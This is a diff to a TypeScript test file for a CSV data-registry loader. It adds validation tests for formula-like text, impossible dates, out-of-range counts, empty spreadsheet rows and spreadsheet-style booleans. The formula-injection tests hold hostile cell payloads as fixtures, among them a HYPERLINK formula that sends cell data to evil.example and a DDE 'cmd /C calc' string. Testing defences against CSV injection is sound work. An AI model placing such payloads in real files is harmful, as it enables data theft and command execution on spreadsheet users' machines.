@@ -1,7 +1,9 @@
 /**
- * Bad input people really send (issue 8): text encoded twice, rows that lost their trailing empty fields,
- * invisible characters, and files whose header does not parse because of their shape. Each kind has a
- * small fixture and the exact message.
+ * Bad input people really send. Issue 8: text encoded twice, rows that lost their trailing empty fields,
+ * invisible characters, and files whose header does not parse because of their shape. Issue 15: text a
+ * spreadsheet would run as a formula, dates before the programme or after the build, events after their
+ * source, counts beyond their universe, Excel's empty rows, booleans as spreadsheets write them. Each kind
+ * has a small fixture and the exact message.
  */
 import {readFileSync} from "node:fs";
 import {readdir, readFile} from "node:fs/promises";
@@ -12,7 +14,9 @@ import {parseCsv} from "../loaders/registry/csv-parse.js";
 import {DEFAULT_REGISTRY_DIR, loadRegistry} from "../loaders/registry/registry.js";
 import {repairDoubleEncoding, showInvisible} from "../loaders/text-faults.js";
 import {SCHEMA, TABLE_NAMES, tableFile} from "../metrics/model/schema.js";
-import {mutatedRegistry, problemsOf, VALID_FIXTURE} from "./helpers/registry-fixture.js";
+import {brief, type Mutation, mutatedRegistry, problemsOf, VALID_FIXTURE} from "./helpers/registry-fixture.js";
+import {formulaLike, protectCell, runsAsFormula, unprotectCell} from "../loaders/formula.js";
+import {monthlyPhases} from "../metrics/monthly-phases.js";
 
 const utf8 = (text: string) => new TextEncoder().encode(text);
 
@@ -233,6 +237,310 @@ describe("a header that does not parse says what the file looks like", () => {
   it("a second BOM", async () => {
     expect(await problemsOf({file: "totales_reportados.csv", bytes: utf8(`\ufeff\ufeff${header}\n${row}\n`)})).toEqual([
       `totales_reportados.csv:1:1 - "<U+FEFF>fecha_corte" → ${expected} (columna 1: fecha_corte); el archivo empieza con una marca de orden de bytes (BOM, U+FEFF) de más: bórrela`
+    ]);
+  });
+});
+
+// ── Issue 15: hostile input, round 3 ──────────────────────────────────────────────────────────────────
+
+/** The day the round-3 tests validate on, so that messages naming the build date are exact. */
+const TODAY = "2026-12-03";
+
+/** Problems of a mutated fixture validated on {@link TODAY}, in brief form; fails if it loads without error. */
+async function problemsOn(...mutations: Mutation[]): Promise<string[]> {
+  const dir = await mutatedRegistry(...mutations);
+  try {
+    await loadRegistry(dir, {today: TODAY});
+  } catch (error) {
+    if (error instanceof InvalidInputError) return error.problems.map(brief);
+    throw error;
+  }
+  throw new Error("Se esperaba un registro inválido, pero se validó sin problemas");
+}
+
+const FORMULA =
+  'un texto que no empiece con "=", "+", "-", "@", tabulador ni retorno de carro (tampoco tras espacios): Excel y LibreOffice lo tomarían por una fórmula; si la fuente lo escribe así, póngalo entre comillas tipográficas («=…») o empiece con otra palabra';
+
+describe("formula-like text (a spreadsheet would run it)", () => {
+  it("the compromiso title =HYPERLINK(…) is refused with file, line, column, value and what was expected", async () => {
+    expect(
+      await problemsOn({
+        file: "compromisos.csv",
+        replace: '"Realizar un informe público de la deuda pública, para descarga en formatos abiertos."',
+        with: '"=HYPERLINK(""http://evil.example/?d=""&A1,""Ver fuente"")"'
+      })
+    ).toEqual([
+      `compromisos.csv:2:17 titulo "=HYPERLINK(\\"http://evil.example/?d=\\"&A1,\\"Ver fuente\\")" → ${FORMULA}`
+    ]);
+  });
+
+  it("in any text column of any table: +, -, @, a leading tab or CR, after spaces, full-width signs", async () => {
+    expect(
+      await problemsOn(
+        {file: "fuentes.csv", replace: "Nota de prueba", with: "+cmd|' /C calc'!A0"},
+        {file: "casos.csv", replace: "Un problema (prueba).", with: "@SUM(1+1)"},
+        {file: "hitos.csv", replace: '"""el pasado 22 de septiembre"" (prueba)"', with: "-2+3"},
+        {file: "entidades.csv", replace: "Aguascalientes,Aguascalientes", with: "Aguascalientes,\tAguascalientes"},
+        {file: "casos.csv", replace: "Otra solución (prueba).", with: '"\r=1+1"'},
+        {file: "casos.csv", replace: "Otro beneficio (prueba).", with: "＝1+1"},
+        {file: "compromisos.csv", replace: "Compromiso proactivo de prueba", with: "  =1+1"}
+      )
+    ).toEqual([
+      `casos.csv:2:72 problema "@SUM(1+1)" → ${FORMULA}`,
+      `casos.csv:3:41 solucion "<U+000D>=1+1" → ${FORMULA}`,
+      `casos.csv:3:49 beneficios "＝1+1" → ${FORMULA}`,
+      `compromisos.csv:3:17 titulo "  =1+1" → ${FORMULA}`,
+      `entidades.csv:2:26 nombre_corto "<U+0009>Aguascalientes" → ${FORMULA}`,
+      `fuentes.csv:4:20 titulo "+cmd|' /C calc'!A0" → ${FORMULA}`,
+      `hitos.csv:4:83 cita "-2+3" → ${FORMULA}`
+    ]);
+  });
+
+  it("formulaLike, runsAsFormula and protectCell: negative numbers and ISO dates are not formulas", () => {
+    const cells = [
+      "=1+1",
+      "+A1",
+      "-x",
+      "@A1",
+      "\tx",
+      "\rx",
+      " =x",
+      "＠x",
+      "-3",
+      "+2.5",
+      "1e-7",
+      "2015-03-09",
+      "a=b",
+      ""
+    ];
+    expect(cells.map(formulaLike)).toEqual([...Array(10).fill(true), false, false, false, false]);
+    expect(cells.map(runsAsFormula)).toEqual([...Array(8).fill(true), false, false, false, false, false, false]);
+    expect(["=1+1", "-3", "'hola", "hola"].map(protectCell)).toEqual(["'=1+1", "'-3", "''hola", "hola"]);
+    for (const c of [...cells, "'hola", "''x"]) expect(unprotectCell(protectCell(c))).toBe(c);
+  });
+
+  it("is not found in any text cell of the shipped registry (nor a leading apostrophe, so the guard is unambiguous)", async () => {
+    const flagged: string[] = [];
+    for (const name of TABLE_NAMES) {
+      const text = (await readFile(join(DEFAULT_REGISTRY_DIR, tableFile(name)), "utf8")).replace(/^\uFEFF/, "");
+      for (const r of parseCsv(text, name).records.slice(1))
+        for (const [k, v] of r.fields.entries())
+          if (formulaLike(v) || v.startsWith("'")) flagged.push(`${name}:${r.line}:${SCHEMA[name].columns[k].name}`);
+    }
+    expect(flagged).toEqual([]);
+  });
+});
+
+const AFTER_BUILD = "el registro no guarda fechas futuras ni programadas (¿se escribió mal el año?)";
+const BEFORE_PROGRAMME =
+  "el programa «Cocreación desde lo local» empezó en 2015 y el registro no guarda nada anterior (¿se escribió mal el año?)";
+
+describe("dates that cannot be: before 2015 or after the build date", () => {
+  it("a PAL typed as 2031", async () => {
+    expect(await problemsOn({file: "hitos.csv", replace: ",,2019-05-31", with: ",2031-05-01,2031-05-31"})).toEqual([
+      `hitos.csv:8:50 fecha_min "2031-05-01" → una fecha hasta ${TODAY}, la de esta validación: ${AFTER_BUILD}`,
+      `hitos.csv:8:61 fecha_max "2031-05-31" → una fecha hasta ${TODAY}, la de esta validación: ${AFTER_BUILD}`
+    ]);
+  });
+
+  it("a Declaratoria before the programme existed", async () => {
+    expect(
+      await problemsOn({
+        file: "hitos.csv",
+        replace: "declaratoria,2015-03-09,2015-03-09",
+        with: "declaratoria,2014-12-01,2014-12-31"
+      })
+    ).toEqual([
+      `hitos.csv:2:44 fecha_min "2014-12-01" → una fecha desde 2015-01-01: ${BEFORE_PROGRAMME}`,
+      `hitos.csv:2:55 fecha_max "2014-12-31" → una fecha desde 2015-01-01: ${BEFORE_PROGRAMME}`
+    ]);
+  });
+
+  it("in any date column of any table: a source dated after the build, a total before 2015, a year in the future", async () => {
+    expect(
+      await problemsOn(
+        {file: "fuentes.csv", replace: "Diario de prueba,2015-09,", with: "Diario de prueba,2027-01,"},
+        {file: "totales_reportados.csv", replace: "2019,", with: "2014,"},
+        {
+          file: "entidades.csv",
+          replace: "Aguascalientes,Aguascalientes,inegi-claves-entidades,,,,,,,,,",
+          with: "Aguascalientes,Aguascalientes,inegi-claves-entidades,,,,2027,prueba-lista,x,,,"
+        },
+        {file: "metas.csv", replace: "2017-01-01", with: "2027-01-01"}
+      )
+    ).toEqual([
+      `entidades.csv:2:67 anio_inicio "2027" → un año hasta 2026, el de esta validación: ${AFTER_BUILD}`,
+      `fuentes.csv:4:56 fecha "2027-01" → una fecha hasta ${TODAY}, la de esta validación: ${AFTER_BUILD}`,
+      'metas.csv:2:68 fecha_min "2027-01-01" → una fecha no posterior a fecha_max (2017-03-31)',
+      `metas.csv:2:68 fecha_min "2027-01-01" → una fecha hasta ${TODAY}, la de esta validación: ${AFTER_BUILD}`,
+      `totales_reportados.csv:2:1 fecha_corte "2014" → una fecha desde 2015-01-01: ${BEFORE_PROGRAMME}`
+    ]);
+  });
+
+  it("a partial date is refused only when none of its days fits: 2026 passes on 2026-12-03", async () => {
+    const dir = await mutatedRegistry({
+      file: "fuentes.csv",
+      replace: "Diario de prueba,2015-09,",
+      with: "Diario de prueba,2026,"
+    });
+    await expect(loadRegistry(dir, {today: TODAY})).resolves.toBeTruthy();
+  });
+
+  it("the monthly panel of the shipped registry never runs past the month of the build", async () => {
+    const panel = monthlyPhases(await loadRegistry());
+    const last = panel.map((r) => r.fecha).reduce((a, b) => (b > a ? b : a));
+    expect(last.slice(0, 7) <= new Date().toISOString().slice(0, 7)).toBe(true);
+  });
+});
+
+describe("an event dated after the source that reports it", () => {
+  const AFTER_SOURCE =
+    "y una fuente no puede informar lo que aún no ocurría; corrija la fecha o cite la fuente que lo informa";
+
+  it("a milestone and a reported status later than their sources are refused", async () => {
+    expect(
+      await problemsOn(
+        {
+          file: "hitos.csv",
+          replace: "instalacion_stl,2015-09-22,2015-09-22,prueba-nota",
+          with: "instalacion_stl,2015-10-05,2015-10-05,prueba-nota"
+        },
+        {file: "estatus_reportados.csv", replace: "10,2016,", with: "10,2020,"}
+      )
+    ).toEqual([
+      `estatus_reportados.csv:2:4 fecha_corte "2020" → una fecha no posterior a la de su fuente: prueba-lista es de 2019 (fuentes.csv, línea 3) ${AFTER_SOURCE}`,
+      `hitos.csv:4:49 fecha_min "2015-10-05" → una fecha no posterior a la de su fuente: prueba-nota es de 2015-09 (fuentes.csv, línea 4) ${AFTER_SOURCE}`
+    ]);
+  });
+
+  it("a source dated only by its year may report anything in that year; an undated source is not compared", async () => {
+    const dir = await mutatedRegistry(
+      {file: "hitos.csv", replace: ",,2019-05-31", with: ",2019-12-31,2019-12-31"},
+      {file: "hitos.csv", replace: "2015-09-22,2015-09-22,prueba-nota", with: "2015-09-30,2015-09-30,prueba-nota"},
+      {
+        file: "totales_reportados.csv",
+        replace: "2019,estados_participantes,29,prueba-lista",
+        with: "2024,estados_participantes,29,inegi-claves-entidades"
+      }
+    );
+    await expect(loadRegistry(dir, {today: TODAY})).resolves.toBeTruthy();
+  });
+});
+
+describe("counts beyond their universe", () => {
+  it("estados_participantes = 40", async () => {
+    expect(
+      await problemsOn({
+        file: "totales_reportados.csv",
+        replace: "2019,estados_participantes,29,",
+        with: "2019,estados_participantes,40,"
+      })
+    ).toEqual([
+      'totales_reportados.csv:2:28 valor "40" → a lo más 32, porque cuenta entidades federativas: México tiene 32'
+    ]);
+  });
+
+  it("other totals and other tables: STL beyond the participating states, plans beyond 32 × 9, a state's sujetos obligados beyond the country's", async () => {
+    expect(
+      await problemsOn(
+        {
+          file: "totales_reportados.csv",
+          replace: "\n",
+          with: '\n2019,stl_instalados,30,prueba-lista,"x (prueba)"\n2019,pal_publicados,300,prueba-lista,"y (prueba)"\n2018,stl_instalados,33,prueba-lista,"z (prueba)"\n'
+        },
+        {
+          file: "mga_reportados.csv",
+          replace: "nota\n",
+          with: "nota\n2017,nacional,,sujetos_obligados,908,prueba-lista,x,\n2017,estatal,05,sujetos_obligados,1000,prueba-lista,y,\n2017,federal,,sujetos_obligados,909,prueba-lista,z,\n"
+        }
+      )
+    ).toEqual([
+      'mga_reportados.csv:3:35 valor "1000" → a lo más 908, los sujetos obligados de todo el país en la edición 2017 (mga_reportados.csv, línea 2)',
+      'mga_reportados.csv:4:33 valor "909" → a lo más 908, los sujetos obligados de todo el país en la edición 2017 (mga_reportados.csv, línea 2)',
+      'totales_reportados.csv:2:21 valor "30" → a lo más 29, las entidades participantes que la misma fuente reporta a la misma fecha (línea 5): un STL se instala después de la Declaratoria',
+      'totales_reportados.csv:3:21 valor "300" → a lo más 288, porque cuenta planes, uno por entidad y ejercicio: 32 entidades × 9 ejercicios',
+      'totales_reportados.csv:4:21 valor "33" → a lo más 32, porque cuenta entidades con STL, uno por entidad: México tiene 32'
+    ]);
+  });
+});
+
+describe("Excel's empty rows (rows of bare commas)", () => {
+  const compromisosEnd = "sí,,,,,,,prueba-lista,Proactivo (prueba),,,,,,,,,,,,,,\n";
+  const bare = `${",".repeat(SCHEMA.compromisos.columns.length - 1)}\n`;
+
+  it("300 of them are named once, as a run, and the real error in another table is still shown", async () => {
+    const dir = await mutatedRegistry(
+      {file: "compromisos.csv", replace: compromisosEnd, with: compromisosEnd + bare.repeat(300)},
+      {file: "fuentes.csv", replace: "2015-09,", with: "2015-13,"}
+    );
+    const error = await errorOf(dir);
+    expect(error.problems.map(brief)).toEqual([
+      `compromisos.csv:4:1 - "${bare.trim()}" → una fila con datos: ésta es una fila vacía (sólo comas), y lo son también las 299 siguientes, hasta la línea 303; probablemente quedó de borrar filas en una hoja de cálculo: bórrelas`,
+      'fuentes.csv:4:56 fecha "2015-13" → una fecha AAAA, AAAA-MM o AAAA-MM-DD real'
+    ]);
+    expect(error.message).toContain("fuentes.csv:4:56 (fecha)");
+    expect(error.notes).toEqual([]);
+  });
+
+  it("each run once, whatever its number of commas; one row alone is named alone", async () => {
+    expect(
+      await problemsOn(
+        {file: "compromisos.csv", replace: compromisosEnd, with: `${compromisosEnd}${bare}${bare}`},
+        {file: "compromisos.csv", replace: "\ncoa-1-p1,", with: "\n,,,\ncoa-1-p1,"},
+        {file: "hitos.csv", replace: "\ndur-1-", with: "\n,,,,,,,\ndur-1-"}
+      )
+    ).toEqual([
+      'compromisos.csv:3:1 - ",,," → una fila con datos: ésta es una fila vacía (sólo comas); probablemente quedó de borrar filas en una hoja de cálculo: bórrela',
+      `compromisos.csv:5:1 - "${bare.trim()}" → una fila con datos: ésta es una fila vacía (sólo comas), y lo son también las 1 siguientes, hasta la línea 6; probablemente quedó de borrar filas en una hoja de cálculo: bórrelas`,
+      'hitos.csv:6:1 - ",,,,,,," → una fila con datos: ésta es una fila vacía (sólo comas); probablemente quedó de borrar filas en una hoja de cálculo: bórrela'
+    ]);
+  });
+
+  it("one file's hundreds of problems never hide another file's: every file's first problems are listed", async () => {
+    const bad = Array.from(
+      {length: 300},
+      (_, k) => `zz-${k},05,1,,Título ${k},,quizá,,,,,,,prueba-lista,x,,,,,,,,,,,,,,\n`
+    ).join("");
+    const dir = await mutatedRegistry(
+      {file: "compromisos.csv", replace: compromisosEnd, with: compromisosEnd + bad},
+      {
+        file: "totales_reportados.csv",
+        replace: "2019,estados_participantes,29,",
+        with: "2019,estados_participantes,40,"
+      }
+    );
+    const error = await errorOf(dir);
+    expect(error.problems).toHaveLength(301);
+    const lines = error.message.split("\n");
+    expect(lines.map((l) => l.replaceAll(`${dir}/`, ""))).toContain(
+      'totales_reportados.csv:2:28 (valor) valor "40": se esperaba a lo más 32, porque cuenta entidades federativas: México tiene 32'
+    );
+    expect(lines.at(-1)).toMatch(/^… y 101 problemas más \(.*compromisos\.csv: 101\)$/);
+  });
+});
+
+describe("booleans written as a spreadsheet writes them", () => {
+  it("TRUE, Sí and 1 are refused with one message each, naming the accepted forms, and no second 'empty' error", async () => {
+    expect(
+      await problemsOn(
+        {file: "compromisos.csv", replace: "deuda pública,no,", with: "deuda pública,TRUE,"},
+        {
+          file: "entidades.csv",
+          replace: "Aguascalientes,Aguascalientes,inegi-claves-entidades,,,,",
+          with: "Aguascalientes,Aguascalientes,inegi-claves-entidades,Sí,prueba-lista,cita,"
+        },
+        {file: "compromisos.csv", replace: "Proactivo (prueba),,", with: "Proactivo (prueba),1,"},
+        {
+          file: "fuentes.csv",
+          replace: "Documento de prueba con una lista de estados,si,",
+          with: "Documento de prueba con una lista de estados,FALSO,"
+        }
+      )
+    ).toEqual([
+      'compromisos.csv:2:118 proactivo "TRUE" → "si", "sí" o "no", en minúsculas (o vacío si no se sabe); "TRUE" parece un "si": escriba si',
+      'compromisos.csv:3:90 calidad_redaccion_clara "1" → "si", "sí" o "no", en minúsculas (o vacío si no se sabe); "1" parece un "si": escriba si',
+      'entidades.csv:2:64 participa "Sí" → "si", "sí" o "no", en minúsculas (o vacío si no se sabe); "Sí" parece un "si": escriba si',
+      'fuentes.csv:3:67 titulo_atribuido "FALSO" → "si", "sí" o "no", en minúsculas; "FALSO" parece un "no": escriba no'
     ]);
   });
 });
